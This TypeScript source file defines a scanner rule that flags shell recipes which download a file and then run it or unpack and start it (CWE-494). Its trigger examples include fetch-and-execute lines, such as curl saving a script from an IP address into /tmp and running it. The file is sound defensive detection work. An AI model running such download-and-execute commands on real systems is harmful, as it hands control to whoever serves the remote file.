import type { Document } from '../../document.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { type CommandLine, commands } from '../../signals/commands.ts'
import { savedAs } from '../../signals/downloads.ts'
import { isLocal } from '../../signals/hosts.ts'
import { weightOfOrigin } from '../../signals/origins.ts'
import { addresses, baseName, fetchOf, interprets, programOf } from '../../signals/programs.ts'
import type { Command } from '../../signals/shell.ts'

/** Lines between the download and the run that still count as one recipe. */
const LINES_APART = 12

/** Downloads that are kept in mind at once. */
const SAVED_MAX = 200

interface Saved {
  file: string
  address: string
  line: number
  from: CommandLine
}

const PACKED = /\.(?:zip|tar|tgz|tar\.\w{2,3}|gz|bz2|xz|7z|rar|dmg|pkg|msi)$/
const UNPACKS = /\b(?:tar|unzip|7z|unrar|expand-archive|bsdtar|ditto|hdiutil)\b/

/** What unpacked packages are started by. A build of source code is a job of its own. */
const STARTS =
  /(?:^|&&|;)\s{0,40}(?:sudo )?(?:(?:ba|z)?sh )?(?:\.\/(?!configure|gradlew|mvnw|node_modules|scripts?\/)[\w./-]{1,80}|install(?:er)?\.\w{1,5}|(?:python3? )?setup\.\w{1,5} install|open [\w ./-]{1,80}\.app)/m
const BLOCK_CHARACTERS_MAX = 1200

export default defineRule({
  id: 'downloaded-file-run',
  since: 1,
  category: 'execution',
  severity: 'high',
  confidence: 'high',
  cwe: 'CWE-494',
  title: 'A downloaded file is run',
  description:
    'A file is fetched, and a later step runs it. What it holds is decided by whoever controls the address at that moment.',
  remediation:
    'Check the file against a published digest or signature before it runs, or use a package with a pinned version.',
  harmlessIf: 'the address belongs to the maker of the tool and the file is checked before it runs',
  needs: [['fetcher'], ['url']],
  examples: {
    fires: [
      '```bash\ncurl -o /tmp/a.sh http://203.0.113.9/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh\n```\n',
      '```bash\nwget https://files.example.org/tool.py && python3 tool.py\n```\n',
      'curl -L https://dl.example.net/x -o x; chmod 755 x; ./x\n',
      '```bash\ncurl -LO https://dl.fieldlog.example/kit.zip\nunzip kit.zip\n./kit/start\n```\n',
    ],
    quiet: [
      '```bash\ncurl -o data.json https://api.example.com/data\njq . data.json\n```\n',
      '```bash\nwget https://example.com/book.pdf\n```\n',
      '```bash\ncurl -O https://example.com/a.tar.gz\npython3 build.py\n```\n',
      '```bash\ncurl -LO https://github.com/acme/tool/archive/v1.tar.gz\ntar xzf v1.tar.gz\n./configure\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    let saved: Saved[] = []
    for (const line of document.observe(commands)) {
      const number = document.lineAt(line.start)
      // They are in order, so that the oldest come first.
      while (saved.length > SAVED_MAX || (saved[0] && number - saved[0].line > LINES_APART))
        saved.shift()
      for (const { commands: list } of line.pipelines)
        for (const command of list) {
          const fetched = fetchOf(command)
          const address = addresses(command)[0]
          if (fetched && address && !isLocal(address))
            saved.push(
              ...savedAs(command.words, address).map((file) => ({
                file,
                address,
                line: number,
                from: line,
              })),
            )
          const unpacked = fetched && address && saved.at(-1)
          if (unpacked && unpacked.from === line && startsUnpacked(document, unpacked))
            yield {
              start: line.start,
              end: line.end,
              firm: true,
              ...weightOfOrigin(document, line.start, [address]),
            }
          const run = ranFile(command)
          const source = run ? saved.find(({ file }) => file === run) : undefined
          if (!source) continue
          yield {
            start: source.from.start,
            end: line.end,
            firm: true,
            ...weightOfOrigin(document, source.from.start, [source.address]),
          }
          saved = saved.filter((item) => item !== source)
        }
    }
  },
})

/** The rest of the fence unpacks the file and starts a program out of it. */
function startsUnpacked(document: Document, { file, from, line }: Saved): boolean {
  const fence = document.zones.fenceAt(line)
  if (!fence || !PACKED.test(file)) return false
  const end = Math.min(document.reading.lines.end(fence.last), from.end + BLOCK_CHARACTERS_MAX)
  const rest = document.reading.text.slice(from.start, end)
  const unpacked = UNPACKS.exec(rest)
  return unpacked !== null && STARTS.test(rest.slice(unpacked.index))
}

/** The base name of the file that a command runs; null when it runs none. */
function ranFile(command: Command): string | null {
  const program = interprets(command)
  const argument = program?.arguments.find((word) => !word.startsWith('-'))
  if (argument) return baseName(argument)
  const opened = programOf(command)
  if (
    opened &&
    /^(?:open|start|start-process|installer|msiexec|dpkg|rpm|xdg-open|chmod)$/.test(opened.name)
  )
    return baseName(
      opened.arguments.findLast((word) => /\.\w{2,8}$|^\.?\//.test(word)) ??
        opened.arguments.at(-1) ??
        '',
    )
  const first = command.words.find((word) => word !== 'sudo' && word !== '&&')
  if (first && /^(?:\.{0,2}\/|~\/|\$home\/|\/tmp\/)/.test(first)) return baseName(first)
  return null
}
